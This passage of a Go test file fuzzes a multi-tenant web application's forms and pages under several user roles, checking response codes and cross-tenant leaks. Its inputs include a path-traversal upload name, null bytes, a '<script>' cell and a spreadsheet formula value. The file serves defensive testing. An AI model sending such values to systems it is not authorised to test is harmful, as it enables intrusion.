		"tokens": "token", "items": "item", "extend": "organisation", "outbox": "source", "messages": "message"}[before]
}

// pagePath fills a page pattern ("POST /reports/{id}") with identifiers.
func (g *gen) pagePath(pattern string) string {
	_, path, _ := strings.Cut(pattern, " ")
	path = strings.TrimSuffix(path, "{$}")
	segs := strings.Split(path, "/")
	for i, s := range segs {
		if !strings.HasPrefix(s, "{") {
			continue
		}
		v := g.pageValue(pageParamKind(segs[i-1]))
		if v == "" {
			v = "x"
		}
		segs[i] = v
	}
	return strings.Join(segs, "/")
}

// formBody returns a form (urlencoded or, for uploads, multipart) with
// hostile values for a random set of fields.
func (g *gen) formBody(fields []string, csrf string, upload bool) ([]byte, string) {
	vals := url.Values{}
	for _, k := range fields {
		if g.r.IntN(3) != 0 {
			continue
		}
		var v string
		if g.r.IntN(100) == 0 {
			v = strings.Repeat(g.pick([]string{"я", "a", "<", "\x00"}), 1+g.r.IntN(300_000))
		} else {
			v = g.pick(hostileForm)
		}
		vals.Add(k, v)
	}
	if csrf != "" {
		vals.Set("csrf_token", csrf)
	}
	if !upload {
		if g.r.IntN(10) == 0 {
			return []byte(g.pick([]string{"%", "%FF=%FE", "a=%00", "&&&=", "csrf_token=" + csrf + "&%zz"})), "application/x-www-form-urlencoded"
		}
		return []byte(vals.Encode()), "application/x-www-form-urlencoded"
	}
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	keys := make([]string, 0, len(vals))
	for k := range vals {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		_ = mw.WriteField(k, vals.Get(k))
	}
	name := g.pick([]string{"отчёт.xlsx", "../../x.docx", "a\x00.csv", "<b>.tsv", "plan.txt"})
	fw, _ := mw.CreateFormFile("file", name)
	content := g.pick([]string{"", "PK\x03\x04", "PK\x03\x04\x14\x00\x00\x00\x08\x00garbage", "\xff\xfe\x00\x00",
		"ИНН;Краткое наименование;Тип\n\x00;=1+1;ОУ\n", fixtureTSV, "№\tМероприятие\n1.\t<script>\n", strings.Repeat("a;", 50_000)})
	_, _ = fw.Write([]byte(content))
	_ = mw.Close()
	b := buf.Bytes()
	if g.r.IntN(10) == 0 {
		b = b[:g.r.IntN(len(b))] // cut short
	}
	return b, mw.FormDataContentType()
}

// pageSession signs a role in through the form and returns its cookies and
// CSRF token.
func pageSession(t testing.TB, base, login, pw string) (cookie, csrf string) {
	t.Helper()
	b := newBrowser(t, base)
	csrf = b.signIn(login, pw)
	u, _ := url.Parse(base)
	var parts []string
	for _, c := range b.c.Jar.Cookies(u) {
		parts = append(parts, c.Name+"="+c.Value)
	}
	return strings.Join(parts, "; "), csrf
}

// pageStatuses are the answers a page may give to hostile input (307: the
// mux sends a path with ".." to its clean form).
var pageStatuses = map[int]bool{200: true, 303: true, 307: true, 400: true, 401: true, 403: true, 404: true, 409: true,
	413: true, 422: true, 429: true}

// TestFuzzPageForms posts hostile forms to every page form (and opens every
// page with hostile identifiers and query strings) as every role.
func TestFuzzPageForms(t *testing.T) {
	t.Parallel()
	f := newFixture(t, fuzzConfig)
	fields := pageFormFields(t, f)
	hc := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	stats := &fuzzStats{}
	routes := web.Routes()
	for _, role := range []string{"", "curator", "methodologist", "regional", "operator"} {
		name := role
		if name == "" {
			name = "anonymous"
		}
		ids := f.fuzzIDs(role)
		g := &gen{r: rand.New(rand.NewPCG(fuzzSeed, 7+uint64(len(role)))), ids: ids}
		cookie, csrf := "", ""
		if role != "" {
			cookie, csrf = pageSession(t, f.p.base, role, rolePassword(role))
		}
		var before string
		if role == "curator" || role == "methodologist" {
			before = f.foreignState(role)
		}
		type pageRequest struct {
			q      fuzzRequest
			cookie string
		}
		var reqs []pageRequest
		for _, pattern := range routes {
			method, _, _ := strings.Cut(pattern, " ")
			if pattern == "POST /logout" || strings.HasPrefix(pattern, "GET /static/") {
				continue // sign-out ends the session the rest of the run needs; files have no input
			}
			for range fuzzPerPage {
				q := fuzzRequest{role: name, method: method, url: g.pagePath(pattern), form: true}
				reqCookie := cookie
				if method == "GET" {
					if g.r.IntN(2) == 0 {
						q.url += "?" + g.pick([]string{"q", "page", "sort", "dir", "year", "status", "asOf", "saved", "next", "from", "municipality", "region"}) +
							"=" + g.pick(hostileQuery)
					}
				} else {
					token := csrf
					if pattern == "POST /login" {
						// The sign-in form's own token, from its cookie.
						token = "fuzz-login-token-0123456789"
						reqCookie = strings.TrimPrefix(cookie+"; ", "; ") + "nastavnik_login_csrf=" + token
					}
					upload := strings.Contains(pattern, "upload") || strings.Contains(pattern, "import")
					q.body, q.contentType = g.formBody(fields, token, upload && g.r.IntN(5) != 0)
				}
				reqs = append(reqs, pageRequest{q, reqCookie})
			}
		}
		work := make(chan pageRequest)
		var wg sync.WaitGroup
		for range 4 {
			wg.Go(func() {
				for w := range work {
					q := w.q
					status, body := doRaw(t, hc, f.p.base, "", w.cookie, q)
					if status == 0 {
						continue
					}
					problem := ""
					switch {
					case !pageStatuses[status]:
						problem = fmt.Sprintf("%d for %s → %.300s", status, q, body)
					case role != "operator" && role != "":
						if m := containsForeign(ids.markers, q, body); m != "" {
							problem = fmt.Sprintf("leak of %q: %s", m, q)
						}
					}
					stats.add(status, problem)
				}
			})
		}
		for _, r := range reqs {
			work <- r
		}
		close(work)
		wg.Wait()
		if before != "" {
			if after := f.foreignState(role); after != before {
				t.Errorf("%s: the page fuzz changed rows of another tenant", name)
			}
		}
	}
	stats.report(t, fmt.Sprintf("page fuzz over %d page routes", len(routes)))
}
